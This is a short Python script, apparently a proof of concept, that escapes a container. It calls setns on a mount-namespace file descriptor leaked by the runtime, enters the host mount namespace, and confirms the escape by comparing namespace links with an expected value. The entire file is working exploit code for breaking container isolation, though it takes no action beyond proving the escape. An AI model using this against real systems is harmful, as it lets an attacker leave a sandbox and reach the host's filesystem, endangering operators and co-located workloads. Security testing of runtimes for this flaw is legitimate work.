#!/usr/bin/env python3
"""Container escape: setns(CLONE_NEWNS) into the host mount namespace through an fd the
runtime leaked into the container, then prove it by reading our own mount namespace.

usage: setns_escape.py FD EXPECTED_HOST_MNTNS
"""

import ctypes
import os
import sys

CLONE_NEWNS = 0x00020000
libc = ctypes.CDLL(None, use_errno=True)


def main():
    fd, expected = int(sys.argv[1]), sys.argv[2]
    before = os.readlink("/proc/self/ns/mnt")
    if libc.setns(fd, CLONE_NEWNS) != 0:
        print(f"setns failed: {os.strerror(ctypes.get_errno())}", file=sys.stderr)
        return 1
    after = os.readlink(f"/proc/{os.getpid()}/ns/mnt") if os.path.exists(f"/proc/{os.getpid()}") \
        else os.readlink("/proc/thread-self/ns/mnt")
    print(f"escaped from {before} into {after}")
    return 0 if after == expected else 2


if __name__ == "__main__":
    sys.exit(main())
